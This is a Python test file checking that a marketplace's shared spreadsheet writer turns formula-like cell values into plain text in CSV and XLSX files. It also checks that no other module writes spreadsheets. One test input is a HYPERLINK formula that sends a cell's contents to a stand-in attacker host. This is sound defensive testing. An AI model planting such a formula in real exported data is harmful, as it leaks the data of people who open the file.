"""Spreadsheet formula injection: one writer for every CSV and XLSX, and it neutralises formulas."""
import re
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook

from marketplace.spreadsheets import csv_bytes, neutralised, xlsx_bytes

PACKAGE = Path(__file__).resolve().parents[2] / "marketplace"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1",
                                  '=HYPERLINK("http://evil.example/?a="&E2,"Open")'])
def test_a_cell_starting_like_a_formula_is_written_as_text(text):
    assert neutralised(text) == "'" + text
    sheet = load_workbook(BytesIO(xlsx_bytes("s", ["h"], [[text]]))).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value.startswith("'")  # XLSX keeps \r as \n
    written = csv_bytes(["h"], [[text]]).decode("utf-8-sig")
    assert written.split("\r\n", 1)[1].lstrip('"').startswith("'" + text.replace('"', '""'))


def test_numbers_and_ordinary_text_are_kept_as_they_are():
    assert [neutralised(value) for value in (-5, 12.5, "李里村", "a=b", "")] == [-5, 12.5, "李里村", "a=b", ""]


def test_no_module_writes_a_spreadsheet_but_the_shared_writer():
    writers = re.compile(r"csv\.writer|csv\.DictWriter|openpyxl import Workbook|Workbook\(\)|xlsxwriter")
    offenders = [str(path.relative_to(PACKAGE)) for path in PACKAGE.rglob("*.py")
                 if path.name != "spreadsheets.py" and writers.search(path.read_text(encoding="utf-8"))]
    assert offenders == []
